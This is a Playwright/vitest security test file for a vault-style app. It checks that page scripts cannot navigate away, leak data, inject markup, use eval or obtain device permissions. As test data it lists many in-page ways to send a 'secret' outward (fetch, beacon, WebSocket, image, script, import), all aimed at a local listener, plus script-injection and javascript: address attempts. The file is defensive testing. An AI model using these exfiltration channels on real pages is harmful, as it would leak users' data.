import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sidebar, unlock } from '../e2e/analyst.ts';
import { homeWithVault } from '../e2e/home.ts';
import { useApp } from '../e2e/use-app.ts';
import { type Listener, listenOutside } from './outside.ts';

const SETTLED_MS = 400;

/** Ways to somewhere else: each is a script of the page, with the address as `to`. */
const waysToGo: [string, string][] = [
  ['a link', "const a = document.createElement('a'); a.href = to; document.body.append(a); a.click(); a.remove()"],
  [
    'a link to a new window',
    "const a = document.createElement('a'); a.href = to; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
  ],
  [
    'a download',
    "const a = document.createElement('a'); a.href = to; a.download = 'x'; document.body.append(a); a.click(); a.remove()",
  ],
  ['location.href', 'location.href = to'],
  ['location.replace', 'location.replace(to)'],
  [
    'a form',
    "const f = document.createElement('form'); f.action = to; f.method = 'post'; document.body.append(f); f.submit(); f.remove()",
  ],
  [
    'meta refresh',
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to; document.head.append(m); m.remove()",
  ],
  ['window.open', 'window.open(to)'],
  [
    'a frame',
    "const f = document.createElement('iframe'); f.src = to; document.body.append(f); setTimeout(() => f.remove(), 200)",
  ],
  [
    'an object',
    "const o = document.createElement('object'); o.data = to; document.body.append(o); setTimeout(() => o.remove(), 200)",
  ],
  [
    'a webview',
    "const w = document.createElement('webview'); w.setAttribute('src', to); document.body.append(w); w.remove()",
  ],
  [
    'a javascript: address',
    "const a = document.createElement('a'); a.href = 'javascript:location.href=' + JSON.stringify(to); document.body.append(a); a.click(); a.remove()",
  ],
];

/** Ways to send something out without going there. */
const waysToSend: [string, string][] = [
  ['fetch', 'await fetch(to)'],
  ['fetch without cors', "await fetch(to, { mode: 'no-cors' })"],
  ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('POST', to); x.send('secret')"],
  ['a picture', 'new Image().src = to'],
  ['a style', "document.body.style.backgroundImage = 'url(' + to + ')'"],
  [
    'a style sheet',
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to; document.head.append(l)",
  ],
  [
    'a prefetch',
    "for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload']) { const l = document.createElement('link'); l.rel = rel; l.href = to; document.head.append(l) }",
  ],
  ['a beacon', "navigator.sendBeacon(to, 'secret')"],
  ['a socket', "new WebSocket(to.replace('http', 'ws'))"],
  ['a stream of events', 'new EventSource(to)'],
  ['a script', "const s = document.createElement('script'); s.src = to; document.head.append(s)"],
  ['an import', 'await import(to)'],
  ['a worker', 'new Worker(to)'],
  ['a service worker', 'await navigator.serviceWorker.register(to)'],
  ['a font', "await new FontFace('x', 'url(' + to + ')').load()"],
  ['a sound', 'new Audio(to).load()'],
  ['WebTransport', "await new WebTransport(to.replace('http:', 'https:')).ready"],
];

describe('the page of the built app', () => {
  const app = useApp(() => homeWithVault());
  let outside: Listener;

  beforeAll(async () => {
    outside = await listenOutside();
    await unlock(await app.page());
  });
  afterAll(() => outside.close());

  /** Runs a script as the page itself, whatever becomes of it, and waits for its consequences. */
  async function attempt(code: string): Promise<Page> {
    const page = await app.page();
    const to = `http://127.0.0.1:${outside.port}/?secret`;
    const script = `(async () => { const to = ${JSON.stringify(to)}; ${code} })().catch(() => undefined)`;
    await page.evaluate(script).catch(() => undefined);
    await page.waitForTimeout(SETTLED_MS);
    return page;
  }

  it.each(waysToGo)('goes nowhere by %s (D4)', async (_how, code) => {
    const before = (await app.running.machine.windows()).map(({ url }) => url);
    const page = await attempt(code);
    expect((await app.running.machine.windows()).map(({ url }) => url)).toEqual(before);
    expect(await sidebar(page).isVisible()).toBe(true);
    expect(outside.arrived).toEqual([]);
  });

  it.each(waysToSend)('sends nothing by %s (D3, D7)', async (_how, code) => {
    const page = await attempt(code);
    expect(outside.arrived).toEqual([]);
    expect(await sidebar(page).isVisible()).toBe(true);
  });

  it('makes no script and no markup out of a text (D3)', async () => {
    const page = await app.page();
    const refused = await page.evaluate(() => {
      const attack = "document.title = 'taken over'";
      const ways: Record<string, () => unknown> = {
        script: () => Object.assign(document.createElement('script'), { text: attack }),
        source: () => Object.assign(document.createElement('script'), { src: 'data:text/javascript,1' }),
        attribute: () => document.createElement('button').setAttribute('onclick', attack),
        markup: () => Object.assign(document.createElement('div'), { innerHTML: '<b>x</b>' }),
        beside: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
        document: () => document.write('<b>x</b>'),
        parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        frame: () => Object.assign(document.createElement('iframe'), { srcdoc: '<b>x</b>' }),
        worker: () => new Worker('data:text/javascript,1'),
        policy: () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
      };
      const isRefused = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      return Object.fromEntries(Object.entries(ways).map(([name, attempt]) => [name, isRefused(attempt)]));
    });
    expect(Object.entries(refused).filter(([, isRefused]) => !isRefused)).toEqual([]);
    // From a timer: what a test evaluates itself may evaluate more.
    const evaluated = await page.evaluate(() => {
      const { promise, resolve } = Promise.withResolvers<unknown[]>();
      const attempt = (name: string) => {
        try {
          return Reflect.get(window, name)('return 1');
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      setTimeout(() => resolve([attempt('eval'), attempt('Function')]), 0);
      return promise;
    });
    expect(evaluated).toEqual(['EvalError', 'EvalError']);
    expect(await page.title()).not.toBe('taken over');
  });

  it('has no permission and is given none (D6)', async () => {
    const page = await app.page();
    const states = await page.evaluate(async () => {
      const names = [
        'camera',
        'microphone',
        'geolocation',
        'notifications',
        'clipboard-read',
        'midi',
        'persistent-storage',
      ];
      const found = names.map(async (name) => {
        const asked = navigator.permissions.query({ name: name as PermissionName });
        return [name, await asked.then(({ state }) => state).catch(() => 'unknown')];
      });
      return Object.fromEntries(await Promise.all(found));
    });
    expect(Object.values(states).filter((state) => state === 'granted')).toEqual([]);

    const given = await page.evaluate(async () => {
      const no = () => 'refused';
      const yes = () => 'given';
      const asks: Record<string, () => Promise<unknown>> = {
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
        microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
        screen: () => navigator.mediaDevices.getDisplayMedia(),
        place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
        clipboard: () => navigator.clipboard.readText(),
        notifications: async () => {
          if ((await Notification.requestPermission()) !== 'granted') throw new Error('no');
        },
        usb: () => Reflect.get(navigator, 'usb').requestDevice({ filters: [] }),
        hid: async () => {
          const devices: unknown[] = await Reflect.get(navigator, 'hid').requestDevice({ filters: [] });
          if (devices.length === 0) throw new Error('none');
        },
        serial: () => Reflect.get(navigator, 'serial').requestPort(),
        bluetooth: () => Reflect.get(navigator, 'bluetooth').requestDevice({ acceptAllDevices: true }),
        files: () => Reflect.get(window, 'showOpenFilePicker')(),
      };
      const answers = Object.entries(asks).map(async ([name, ask]) => [
        name,
        await Promise.resolve().then(ask).then(yes, no),
      ]);
      return Object.fromEntries(await Promise.all(answers));
    });
    expect(Object.entries(given).filter(([, answer]) => answer !== 'refused')).toEqual([]);
  });
});
